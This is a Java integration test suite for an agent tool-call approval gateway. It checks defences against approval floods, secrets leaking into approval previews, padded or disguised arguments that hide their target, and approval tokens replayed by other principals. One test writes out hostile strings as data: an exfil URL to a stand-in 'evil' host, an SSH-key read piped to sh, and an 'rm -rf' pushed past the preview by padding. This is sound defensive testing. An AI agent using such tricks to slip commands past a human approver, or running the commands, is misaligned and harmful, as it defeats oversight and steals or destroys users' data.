package dev.briefcase.itests.attack;

import static org.junit.Assert.assertEquals;
import static org.junit.Assert.assertFalse;
import static org.junit.Assert.assertNotEquals;
import static org.junit.Assert.assertNotNull;
import static org.junit.Assert.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.briefcase.itests.common.Distribution;
import dev.briefcase.testing.Poll;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.security.SecureRandom;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashMap;
import java.util.HashSet;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import org.junit.AfterClass;
import org.junit.Before;
import org.junit.Test;
import org.junit.runner.RunWith;
import org.junit.runners.Parameterized;
import org.junit.runners.Parameterized.Parameter;
import org.junit.runners.Parameterized.Parameters;

/**
 * Issue 10 items 6, 7 (what the human sees) and 8 against the built distribution, in the ga and the
 * reference profile: an approval flood, a secret hidden in the arguments a human is asked to
 * approve, arguments shaped so that redaction or the cut would hide their target, the approval id
 * replayed as a token, and a token carried to another principal — another admin API agent, another
 * MCP session, and an admin API caller naming itself into an MCP session.
 */
@RunWith(Parameterized.class)
public class ApprovalAttackIT {
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final SecureRandom RANDOM = new SecureRandom();
  private static final Map<String, Distribution> RUNNING = new HashMap<>();
  private static final Map<String, String> MCP_URLS = new HashMap<>();
  private static Distribution d;
  private static String mcpUrl;
  private static final HttpClient HTTP =
      HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();

  @Parameters(name = "{0}")
  public static List<Object[]> profiles() {
    return List.of(new Object[] {"ga"}, new Object[] {"reference"});
  }

  @Parameter public String profile;

  /** One distribution per profile, started on first use and shared by that profile's cases. */
  @Before
  public void start() throws Exception {
    if (!RUNNING.containsKey(profile)) {
      // the previous profile's cases are done (Parameterized runs them in order)
      for (Distribution other : RUNNING.values()) {
        other.close();
      }
      Distribution dist =
          new Distribution(Files.createTempDirectory("briefcase-attack-approvals-" + profile))
              .env("BRIEFCASE_PROFILE_MODE", profile)
              // answer approval_required at once instead of holding the MCP call open
              .env("BRIEFCASE_MCP_APPROVAL_WAIT_SECONDS", "0");
      RUNNING.put(profile, dist);
      dist.start();
      MCP_URLS.put(profile, Poll.fileText(dist.dataDir.resolve("mcp.url"), Duration.ofSeconds(30)));
    }
    d = RUNNING.get(profile);
    mcpUrl = MCP_URLS.get(profile);
  }

  @AfterClass
  public static void stop() throws Exception {
    for (Distribution dist : RUNNING.values()) {
      dist.close();
    }
  }

  // ------------------------------------------------------------------ item 6: flood

  @Test
  public void identicalCallsMakeOnePendingApproval() throws Exception {
    String text = "flood " + random();
    Set<String> ids = new HashSet<>();
    for (int i = 0; i < 25; i++) {
      JsonNode r = call("note_add", "{\"text\":\"" + text + "\"}", null, null);
      assertEquals(r.toString(), "approval_required", r.path("status").asText());
      ids.add(r.path("approval").path("id").asText());
    }
    assertEquals("25 identical calls, one approval: " + ids, 1, ids.size());
    int listed = 0;
    for (JsonNode a : d.get("/v1/approvals").json().path("approvals")) {
      if (a.path("summary").path("args_preview").asText().contains(text)
          || ids.contains(a.path("id").asText())) {
        listed++;
      }
    }
    assertEquals("one pending row for the identical calls", 1, listed);
  }

  @Test
  public void distinctCallsBeyondTheCapAreDeniedAndReceipted() throws Exception {
    String flooder = "flooder-" + random();
    for (int i = 0; i < 20; i++) {
      JsonNode r = call("note_add", "{\"text\":\"n" + i + "\"}", flooder, null);
      assertEquals(r.toString(), "approval_required", r.path("status").asText());
    }
    int before = pendingCount();
    JsonNode over = call("note_add", "{\"text\":\"one too many\"}", flooder, null);
    assertEquals(over.toString(), "denied", over.path("status").asText());
    assertEquals("too_many_pending_approvals", over.path("reason").asText());
    assertEquals("no approval was recorded", before, pendingCount());
    JsonNode receipt = receipt(over.path("receipt_id").asLong());
    assertEquals("tool_call", receipt.path("type").asText());
    assertEquals("deny", receipt.path("decision").asText());
    assertEquals("too_many_pending_approvals", receipt.path("reason").asText());
    // the cap is per principal: another caller still asks a human
    JsonNode other = call("note_add", "{\"text\":\"one too many\"}", "other-" + random(), null);
    assertEquals(other.toString(), "approval_required", other.path("status").asText());
  }

  /**
   * Every MCP session is its own principal, so the per-principal limits alone let an agent that
   * opens many sessions pile up pending approvals. The door limits (door {@code mcp}: at most 100
   * pending, a burst of 40 then 60 a minute, the defaults) hold across sessions: 15 sessions × 10
   * distinct calls — each session well inside its own cap of 20 — never create more than the door
   * cap, the rest are receipted denials, and everything pending is still listed.
   */
  @Test
  public void manyMcpSessionsCannotFloodTheApprovals() throws Exception {
    String tag = "door flood " + random();
    List<String> created = new ArrayList<>();
    int refused = 0;
    for (int s = 0; s < 15; s++) {
      Mcp session = Mcp.open();
      for (int i = 0; i < 10; i++) {
        JsonNode args = JSON.readTree("{\"text\":\"" + tag + " " + s + "." + i + "\"}");
        JsonNode r = session.call("note_add", args, null);
        assertTrue(r.toString(), r.path("isError").asBoolean());
        String id = r.path("_meta").path("approval").path("id").asText("");
        if (!id.isEmpty()) {
          created.add(id);
          continue;
        }
        String text = r.path("content").get(0).path("text").asText();
        assertTrue(
            text,
            text.contains("approval_rate_limited") || text.contains("too_many_pending_approvals"));
        refused++;
      }
    }
    try {
      assertTrue(
          "door mcp created " + created.size() + " pending approvals, over its cap of 100",
          created.size() <= 100);
      assertTrue("no call was refused", refused > 0);
      // everything pending is listed (the listing holds the sum of the door caps)
      Set<String> listed = new HashSet<>();
      for (JsonNode a : d.get("/v1/approvals").json().path("approvals")) {
        listed.add(a.path("id").asText());
      }
      assertTrue("a pending approval is not listed", listed.containsAll(created));
      // the refusals are receipted as denials of MCP calls
      int receipted = 0;
      for (JsonNode r : d.get("/v1/receipts?limit=500").json().path("receipts")) {
        JsonNode e = r.path("event");
        if ("mcp".equals(e.path("surface").asText())
            && "deny".equals(e.path("decision").asText())
            && e.path("reason")
                .asText()
                .matches("approval_rate_limited|too_many_pending_approvals")) {
          receipted++;
        }
      }
      assertTrue("refused " + refused + ", receipted " + receipted, receipted >= refused);
    } finally {
      // leave the door usable for the other cases: decide the flood, wait for a token to refill
      for (String id : created) {
        d.post("/v1/approvals/" + id + "/deny", "");
      }
      long deadline = System.nanoTime() + Duration.ofSeconds(30).toNanos();
      Mcp probe = Mcp.open();
      while (true) {
        JsonNode args = JSON.readTree("{\"text\":\"probe " + random() + "\"}");
        String id =
            probe.call("note_add", args, null).path("_meta").path("approval").path("id").asText("");
        if (!id.isEmpty()) {
          d.post("/v1/approvals/" + id + "/deny", "");
          break;
        }
        assertTrue("the mcp door never refilled", System.nanoTime() < deadline);
        Thread.sleep(500);
      }
    }
  }

  // ------------------------------------------------------------------ item 7: what the human sees

  @Test
  public void theListedApprovalShowsTheArgumentsWithTheSecretRedacted() throws Exception {
    String canary = "CANARY" + random();
    String visible = "pay invoice " + random();
    // a secret in an assignment and one in a well-known key format, inside the only argument
    String args =
        "{\"text\":\"" + visible + " api_key=" + canary + " then sk-live_" + canary + "\"}";
    JsonNode pending = call("note_add", args, null, null);
    assertEquals(pending.toString(), "approval_required", pending.path("status").asText());
    String id = pending.path("approval").path("id").asText();

    JsonNode listed = null;
    for (JsonNode a : d.get("/v1/approvals").json().path("approvals")) {
      if (id.equals(a.path("id").asText())) {
        listed = a;
      }
    }
    assertNotNull("the approval is listed", listed);
    JsonNode s = listed.path("summary");
    String preview = s.path("args_preview").asText();
    assertTrue("the human sees the arguments: " + s, preview.contains(visible));
    assertTrue(preview, preview.startsWith("{\"text\":"));
    assertTrue(preview, preview.contains("[REDACTED]"));
    assertEquals(64, s.path("args_hash").asText().length());
    assertFalse(s.path("args_truncated").asBoolean());

    Distribution.CliResult cli = d.cli("approvals", "list");
    assertTrue(cli.stdout(), cli.stdout().contains(visible));
    assertTrue(cli.stdout(), cli.stdout().contains(s.path("args_hash").asText()));

    // the secret is nowhere a human, a stream client or a receipt reader sees
    assertFalse("canary in the API listing", d.get("/v1/approvals").body().contains(canary));
    assertFalse("canary in the CLI listing", cli.stdout().contains(canary));
    assertFalse("canary in receipts", d.get("/v1/receipts?limit=500").body().contains(canary));
    assertFalse("canary in the event stream", streamSnapshot().contains(canary));

    // long arguments are cut, and say so
    JsonNode big = call("note_add", "{\"text\":\"" + "x".repeat(4000) + "\"}", null, null);
    JsonNode bs = big.path("approval").path("summary");
    assertTrue(bs.toString(), bs.path("args_truncated").asBoolean());
    assertTrue(bs.path("args_preview").asText().length() <= 2048);
  }

  @Test
  public void theAgentCannotSteerThePreviewToHideItsTarget() throws Exception {
    String agent = "steer-" + random();
    String host = "evil-" + random() + ".example";
    String canary = "CANARY" + random();
    // a secret-looking term right before the host, a secret-named path, a command after '#token='
    String args =
        "{\"text\":\"https://token="
            + canary
            + "@"
            + host
            + "/exfil /home/u/projects/secret=/../.ssh/id_rsa | sh #token=$(cat ~/.ssh/"
            + host
            + ")\"}";
    JsonNode r = call("note_add", args, agent, null);
    assertEquals(r.toString(), "approval_required", r.path("status").asText());
    String preview =
        summaryOf(r.path("approval").path("id").asText()).path("args_preview").asText();
    assertTrue("the host is visible: " + preview, preview.contains("@" + host + "/exfil"));
    assertTrue(preview, preview.contains("/home/u/projects/secret=/../.ssh/id_rsa"));
    assertTrue(preview, preview.contains("#token=$(cat ~/.ssh/" + host + ")"));
    assertFalse("the credential-shaped value is still redacted", preview.contains(canary));

    // padding cannot push the target past the cut: the end stays in view, and the CLI warns
    String target = "rm -rf /home/u/" + random();
    JsonNode padded =
        call(
            "note_add",
            "{\"text\":\"echo " + " ".repeat(3500) + "; " + target + "\"}",
            agent,
            null);
    assertEquals(padded.toString(), "approval_required", padded.path("status").asText());
    String pid = padded.path("approval").path("id").asText();
    JsonNode ps = summaryOf(pid);
    assertTrue(ps.toString(), ps.path("args_truncated").asBoolean());
    String shown = ps.path("args_preview").asText();
    assertTrue(shown, shown.endsWith("; " + target + "\"}"));
    assertTrue(shown, shown.getBytes(StandardCharsets.UTF_8).length <= 2048);
    Distribution.CliResult cli = d.cli("approvals", "list");
    assertTrue(cli.stdout(), cli.stdout().contains(target));
    assertTrue(cli.stdout(), cli.stdout().contains("WARNING: arguments too long"));
  }

  private static JsonNode summaryOf(String id) throws Exception {
    for (JsonNode a : d.get("/v1/approvals").json().path("approvals")) {
      if (id.equals(a.path("id").asText())) {
        return a.path("summary");
      }
    }
    throw new AssertionError("approval " + id + " is not listed");
  }

  // ------------------------------------------------------------------ item 8: tokens

  @Test
  public void theApprovalIdIsNoToken() throws Exception {
    String args = "{\"text\":\"id replay " + random() + "\"}";
    String id = call("note_add", args, null, null).path("approval").path("id").asText();
    Distribution.Answer approved = d.post("/v1/approvals/" + id + "/approve", "");
    assertEquals(approved.body(), 200, approved.status());
    String token = approved.json().path("approval_token").asText();
    assertNotEquals("the token is not the approval id", id, token);
    assertTrue(token, token.matches("[A-Za-z0-9_-]{22,}"));

    JsonNode byId = call("note_add", args, null, id);
    assertEquals(byId.toString(), "denied", byId.path("status").asText());
    assertEquals("invalid_or_expired_approval", byId.path("reason").asText());

    JsonNode ok = call("note_add", args, null, token);
    assertEquals(ok.toString(), "ok", ok.path("status").asText());
    JsonNode again = call("note_add", args, null, token);
    assertEquals("single use", "invalid_or_expired_approval", again.path("reason").asText());
    // the token never reaches receipts or the stream; the id does
    assertFalse(d.get("/v1/receipts?limit=500").body().contains(token));
    assertFalse(streamSnapshot().contains(token));
  }

  @Test
  public void aTokenFromOnePrincipalIsRefusedForAnother() throws Exception {
    String args = "{\"text\":\"bound " + random() + "\"}";
    String alice = "alice-" + random();
    String id = call("note_add", args, alice, null).path("approval").path("id").asText();
    String token =
        d.post("/v1/approvals/" + id + "/approve", "").json().path("approval_token").asText();

    JsonNode mallory = call("note_add", args, "mallory-" + random(), token);
    assertEquals(mallory.toString(), "denied", mallory.path("status").asText());
    assertEquals("invalid_or_expired_approval", mallory.path("reason").asText());

    Mcp session = Mcp.open();
    JsonNode viaMcp = session.call("note_add", JSON.readTree(args), token);
    assertTrue(viaMcp.toString(), viaMcp.path("isError").asBoolean());
    assertTrue(
        viaMcp.toString(),
        viaMcp.path("content").get(0).path("text").asText().contains("invalid_or_expired"));

    JsonNode own = call("note_add", args, alice, token);
    assertEquals(own.toString(), "ok", own.path("status").asText());
  }

  @Test
  public void anMcpSessionsApprovalIsNotAnotherCallersToUse() throws Exception {
    JsonNode args = JSON.readTree("{\"text\":\"session bound " + random() + "\"}");
    Mcp s1 = Mcp.open();
    JsonNode first = s1.call("note_add", args, null);
    assertTrue(first.toString(), first.path("isError").asBoolean());
    String id = first.path("_meta").path("approval").path("id").asText();
    assertEquals(36, id.length());
    String token =
        d.post("/v1/approvals/" + id + "/approve", "").json().path("approval_token").asText();

    // another MCP session, with the token or the approval id: refused, nothing runs
    Mcp s2 = Mcp.open();
    for (String t : new String[] {token, id}) {
      JsonNode stolen = s2.call("note_add", args, t);
      assertTrue(stolen.toString(), stolen.path("isError").asBoolean());
      assertTrue(
          stolen.toString(),
          stolen.path("content").get(0).path("text").asText().contains("invalid_or_expired"));
    }
    // an admin API caller naming itself as that session: a different principal, so no match
    JsonNode named = call("note_add", args.toString(), null, null, s1.kernelId());
    assertEquals(named.toString(), "approval_required", named.path("status").asText());
    assertNotEquals(id, named.path("approval").path("id").asText());
    JsonNode namedWithToken = call("note_add", args.toString(), null, token, s1.kernelId());
    assertEquals("invalid_or_expired_approval", namedWithToken.path("reason").asText());

    // the session that asked retries plainly and runs exactly once
    JsonNode retry = s1.call("note_add", args, null);
    assertFalse(retry.toString(), retry.path("isError").asBoolean());
    JsonNode twice = s1.call("note_add", args, null);
    assertTrue(twice.toString(), twice.path("isError").asBoolean());
  }

  // ------------------------------------------------------------------ helpers

  private static String random() {
    byte[] b = new byte[9];
    RANDOM.nextBytes(b);
    return HexFormat.of().formatHex(b);
  }

  private static JsonNode call(String tool, String args, String agent, String token)
      throws Exception {
    return call(tool, args, agent, token, null);
  }

  private static JsonNode call(String tool, String args, String agent, String token, String session)
      throws Exception {
    ObjectNode body = JSON.createObjectNode();
    ObjectNode c = body.putObject("call");
    c.put("tool_id", tool);
    c.set("args", JSON.readTree(args));
    ObjectNode ctx = c.putObject("context");
    ctx.put("request_id", UUID.randomUUID().toString());
    if (agent != null) {
      ctx.put("agent_id", agent);
    }
    if (session != null) {
      ctx.put("session_id", session);
    }
    if (token != null) {
      c.put("approval_token", token);
    }
    Distribution.Answer a = d.post("/v1/tools/call", body.toString());
    assertEquals(a.body(), 200, a.status());
    return a.json();
  }

  private static int pendingCount() throws Exception {
    return d.get("/v1/approvals").json().path("approvals").size();
  }

  private static JsonNode receipt(long id) throws Exception {
    assertTrue("no receipt id", id > 0);
    for (JsonNode r : d.get("/v1/receipts?limit=500").json().path("receipts")) {
      if (r.path("id").asLong() == id) {
        return r.path("event");
      }
    }
    throw new AssertionError("receipt " + id + " not found");
  }

  /** The approval events the stream replays from the start, read until a quiet moment. */
  private static String streamSnapshot() throws Exception {
    HttpRequest req =
        HttpRequest.newBuilder(URI.create(d.baseUrl() + "/v1/approvals/stream"))
            .header("Authorization", "Bearer " + d.token())
            .header("Last-Event-ID", "0")
            .build();
    HttpResponse<java.io.InputStream> r = HTTP.send(req, HttpResponse.BodyHandlers.ofInputStream());
    assertEquals(200, r.statusCode());
    StringBuilder seen = new StringBuilder();
    try (java.io.InputStream in = r.body()) {
      byte[] buf = new byte[8192];
      long deadline = System.nanoTime() + Duration.ofSeconds(3).toNanos();
      while (System.nanoTime() < deadline) {
        if (in.available() == 0) {
          if (seen.indexOf("approval.") >= 0) {
            Thread.sleep(200);
            if (in.available() == 0) {
              break;
            }
          } else {
            Thread.sleep(50);
          }
          continue;
        }
        int n = in.read(buf);
        if (n < 0) {
          break;
        }
        seen.append(new String(buf, 0, n, StandardCharsets.UTF_8));
      }
    }
    assertTrue("the stream replayed approval events", seen.indexOf("approval.created") >= 0);
    return seen.toString();
  }

  /** One MCP session over streamable HTTP, as an agent's client would open it. */
  private static final class Mcp {
    private final String sessionId;
    private final String bearer;
    private int ids = 1;

    private Mcp(String sessionId, String bearer) {
      this.sessionId = sessionId;
      this.bearer = bearer;
    }

    static Mcp open() throws Exception {
      Path tokenFile = d.dataDir.resolve("mcp_token");
      String bearer = Files.exists(tokenFile) ? Files.readString(tokenFile).strip() : null;
      HttpResponse<String> init =
          post(
              null,
              bearer,
              "{\"jsonrpc\":\"2.0\",\"id\":0,\"method\":\"initialize\",\"params\":{"
                  + "\"protocolVersion\":\"2025-06-18\",\"capabilities\":{},"
                  + "\"clientInfo\":{\"name\":\"attack\",\"version\":\"1\"}}}");
      assertEquals(init.body(), 200, init.statusCode());
      String sid = init.headers().firstValue("Mcp-Session-Id").orElseThrow();
      post(sid, bearer, "{\"jsonrpc\":\"2.0\",\"method\":\"notifications/initialized\"}");
      return new Mcp(sid, bearer);
    }

    /** The session as the kernel sees it (the gateway hashes the header value). */
    String kernelId() throws Exception {
      byte[] h =
          MessageDigest.getInstance("SHA-256")
              .digest(sessionId.getBytes(StandardCharsets.US_ASCII));
      return "mcp-" + HexFormat.of().formatHex(Arrays.copyOf(h, 16));
    }

    /** {@code tools/call}; the JSON-RPC result. */
    JsonNode call(String tool, JsonNode args, String approvalToken) throws Exception {
      ObjectNode msg = JSON.createObjectNode();
      msg.put("jsonrpc", "2.0");
      msg.put("id", ++ids);
      msg.put("method", "tools/call");
      ObjectNode p = msg.putObject("params");
      p.put("name", tool);
      p.set("arguments", args);
      if (approvalToken != null) {
        p.put("approvalToken", approvalToken);
      }
      HttpResponse<String> r = post(sessionId, bearer, msg.toString());
      assertEquals(r.body(), 200, r.statusCode());
      JsonNode answer = JSON.readTree(lastJson(r.body()));
      assertTrue(answer.toString(), answer.has("result"));
      return answer.get("result");
    }

    private static String lastJson(String body) {
      String b = body.strip();
      if (b.startsWith("{")) {
        return b;
      }
      List<String> data = new ArrayList<>();
      for (String line : b.split("\n")) {
        if (line.startsWith("data:")) {
          data.add(line.substring(5).strip());
        }
      }
      assertFalse("no data in " + body, data.isEmpty());
      return data.get(data.size() - 1);
    }

    private static HttpResponse<String> post(String sid, String bearer, String body)
        throws IOException, InterruptedException {
      HttpRequest.Builder b =
          HttpRequest.newBuilder(URI.create(mcpUrl))
              .timeout(Duration.ofSeconds(30))
              .header("Content-Type", "application/json")
              .header("Accept", "application/json, text/event-stream")
              .POST(HttpRequest.BodyPublishers.ofString(body));
      if (sid != null) {
        b.header("Mcp-Session-Id", sid).header("MCP-Protocol-Version", "2025-06-18");
      }
      if (bearer != null) {
        b.header("Authorization", "Bearer " + bearer);
      }
      return HTTP.send(b.build(), HttpResponse.BodyHandlers.ofString());
    }
  }
}
